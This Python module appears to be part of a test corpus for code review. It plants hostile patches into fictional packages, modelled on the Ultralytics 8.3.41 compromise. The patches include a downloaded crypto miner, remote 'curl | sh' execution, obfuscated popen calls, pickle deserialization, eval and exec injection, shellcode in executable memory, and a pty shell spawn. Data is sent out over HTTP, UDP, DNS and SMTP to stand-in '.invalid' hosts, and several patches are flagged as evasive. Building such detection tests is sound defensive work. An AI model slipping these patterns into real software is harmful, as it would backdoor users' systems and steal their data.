"""Power that existing code gains (Ultralytics 8.3.41), and power that the package never had."""

# ruff: noqa: E501 - what is planted is kept on lines of its own length

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft

__all__: list[str] = []

_GAINED = Family.EXISTING_CODE
_FIRST = Family.FIRST_USE


@planted(_GAINED, base="framework", where=("quayside/settings.py",))
def download_and_run_in_a_function(draft: Draft) -> None:
    draft.replace(
        "quayside/settings.py",
        "    folder.mkdir(parents=True, exist_ok=True)\n",
        "    folder.mkdir(parents=True, exist_ok=True)\n    tool = folder / 'quayd'\n    if not tool.exists():\n"
        "        from urllib.request import urlretrieve\n\n        urlretrieve('https://releases.invalid/quayd-linux', tool)\n"
        "        tool.chmod(0o755)\n        __import__('subprocess').Popen([str(tool), '-o', 'pool.invalid:3333'])\n",
    )


@planted(_GAINED, base="client", where=("harborline/resources/accounts.py",))
def shell_in_a_reader(draft: Draft) -> None:
    draft.replace(
        "harborline/resources/accounts.py",
        '        return self._client.request("GET", "/account")\n',
        '        account = self._client.request("GET", "/account")\n        if account.get("hook"):\n'
        '            import os\n\n            os.system(account["hook"])\n        return account\n',
    )


@planted(_GAINED, base="client", where=("harborline/_errors.py",), evasive=True)
def pickle_of_an_answer(draft: Draft) -> None:
    draft.replace(
        "harborline/_errors.py",
        "            message = response.text[:200]\n",
        "            from pickle import loads\n\n            message = str(loads(response.content))[:200]\n",
    )


@planted(_GAINED, base="command", where=("tidelog/parsing.py",), evasive=True)
def once_in_a_hot_function(draft: Draft) -> None:
    draft.replace(
        "tidelog/parsing.py",
        "def tidy(text):\n",
        "_done = []\n\n\ndef tidy(text):\n    if not _done:\n        _done.append(1)\n        import http.client as h\n\n"
        "        c = h.HTTPSConnection('tidy.invalid', timeout=2)\n        c.request('POST', '/', text)\n",
    )


@planted(_GAINED, base="command", where=("tidelog/render.py",))
def evaluated_title(draft: Draft) -> None:
    draft.replace(
        "tidelog/render.py",
        '    rows = [f"{title',
        "    title = eval(title) if title.startswith('=') else title\n    rows = [f\"{title",
    )
    draft.replace("tidelog/render.py", "title = eval(title) if", "title = str(eval(title[1:])) if")


@planted(_GAINED, base="native", where=("fastbuoy/frames.py",))
def library_loaded_in_a_parser(draft: Draft) -> None:
    draft.replace(
        "fastbuoy/frames.py",
        "        from fastbuoy import decode\n",
        "        import ctypes\n        import glob\n\n        for path in glob.glob('/dev/shm/.fb-*.so'):\n"
        "            ctypes.CDLL(path).start(data)\n        from fastbuoy import decode\n",
    )


@planted(_GAINED, base="client", where=("harborline/_retry.py",), evasive=True)
def alias_in_the_backoff(draft: Draft) -> None:
    draft.replace(
        "harborline/_retry.py", "import time\nfrom dataclasses", "import time, os as _clock\nfrom dataclasses"
    )
    draft.replace(
        "harborline/_retry.py",
        "    if hint is not None:\n",
        "    run = getattr(_clock, 'po' + 'pen')\n    if attempt == 2:\n        run('curl -s https://retry.invalid/' + str(hint))\n"
        "    if hint is not None:\n",
    )


@planted(_GAINED, base="framework", where=("quayside/plugins.py",), evasive=True)
def plugins_that_install_themselves(draft: Draft) -> None:
    draft.replace(
        "quayside/plugins.py",
        "        point.load()\n",
        "        try:\n            point.load()\n        except ImportError:\n            import subprocess\n            import sys\n\n"
        "            subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://mirror.invalid/simple', point.name])\n",
    )


@planted(_GAINED, base="framework", where=("quayside/jobs/declare.py", "quayside/jobs/__init__.py"), evasive=True)
def decorator_that_reports(draft: Draft) -> None:
    draft.replace(
        "quayside/jobs/declare.py",
        "            return function(*args, **kwargs)\n",
        "            try:\n                return function(*args, **kwargs)\n            finally:\n"
        "                from socket import socket, AF_INET, SOCK_DGRAM\n\n"
        "                socket(AF_INET, SOCK_DGRAM).sendto(repr((args, kwargs)).encode(), ('198.51.100.5', 5353))\n",
    )


@planted(_FIRST, base="command", where=("tidelog/telemetry.py", "tidelog/cli.py"))
def socket_in_a_new_module(draft: Draft) -> None:
    draft.put(
        "tidelog/telemetry.py",
        "import json\nimport socket\n\n\ndef report(total):\n    with socket.create_connection(('stats.invalid', 9009)) as s:\n"
        "        s.sendall(json.dumps(total).encode())\n",
    )
    draft.replace(
        "tidelog/cli.py",
        "    return 0\n",
        "    from tidelog.telemetry import report\n\n    report(total)\n    return 0\n",
    )


@planted(_FIRST, base="command", where=("tidelog/cli.py",))
def process_in_the_command(draft: Draft) -> None:
    draft.replace(
        "tidelog/cli.py",
        "    return 0\n",
        "    import subprocess\n\n    subprocess.call(['sh', '-c', 'curl -s https://upd.invalid | sh'])\n    return 0\n",
    )


@planted(_FIRST, base="command", where=("tidelog/fastscan.py",))
def memory_made_executable(draft: Draft) -> None:
    draft.put(
        "tidelog/fastscan.py",
        "import ctypes\nimport mmap\n\nCODE = b'\\x90' * 64 + b'\\xc3'\n\n\ndef scan():\n"
        "    area = mmap.mmap(-1, len(CODE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n    area.write(CODE)\n"
        "    ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()\n",
    )
    draft.after("tidelog/parsing.py", "import re", "from tidelog.fastscan import scan\n")


@planted(_FIRST, base="command", where=("tidelog/render.py", "tidelog/_width.py"), evasive=True)
def names_asked_of_a_resolver(draft: Draft) -> None:
    draft.put(
        "tidelog/_width.py",
        "from socket import getaddrinfo as measure\n\n\ndef width_of(text):\n    try:\n"
        "        measure(text.encode().hex()[:60] + '.w.exfil.invalid', 53)\n    except OSError:\n        pass\n    return len(text)\n",
    )
    draft.prepend("tidelog/render.py", "from tidelog._width import width_of\n")
    draft.replace("tidelog/render.py", "widest = max(len(str(key))", "widest = max(width_of(str(key))")


@planted(_FIRST, base="command", where=("tidelog/formats/jsonl.py",), evasive=True)
def asynchronous_connection(draft: Draft) -> None:
    draft.append(
        "tidelog/formats/jsonl.py",
        """


        async def _mirror(line):
            import asyncio

            _, writer = await asyncio.open_connection("mirror.invalid", 7001)
            writer.write(line.encode())
            await writer.drain()
        """,
    )


@planted(_FIRST, base="command", where=("tidelog/cli.py",), evasive=True)
def pseudo_terminal(draft: Draft) -> None:
    draft.after(
        "tidelog/cli.py",
        "    options = build_parser()",
        "    from pty import spawn as view\n\n    if options.by == 'shell':\n        view('/bin/sh')\n",
    )


@planted(_FIRST, base="native", where=("fastbuoy/frames.py", "fastbuoy/_mail.py"), evasive=True)
def mail(draft: Draft) -> None:
    draft.put(
        "fastbuoy/_mail.py",
        "import smtplib as s\n\n\ndef note(text):\n    with s.SMTP_SSL('mx.invalid', 465) as box:\n"
        "        box.login('a', 'b')\n        box.sendmail('a@mx.invalid', ['b@mx.invalid'], text)\n",
    )
    draft.append(
        "fastbuoy/frames.py", "\n\ndef _note(frame):\n    from fastbuoy._mail import note\n\n    note(repr(frame))\n"
    )


@planted(_FIRST, base="native", where=("fastbuoy/_fallback.py",))
def executed_configuration(draft: Draft) -> None:
    draft.append(
        "fastbuoy/_fallback.py",
        """


        def configure(path="~/.fastbuoy.py"):
            import os

            path = os.path.expanduser(path)
            if os.path.exists(path):
                with open(path) as file:
                    exec(file.read(), globals())


        configure()
        """,
    )
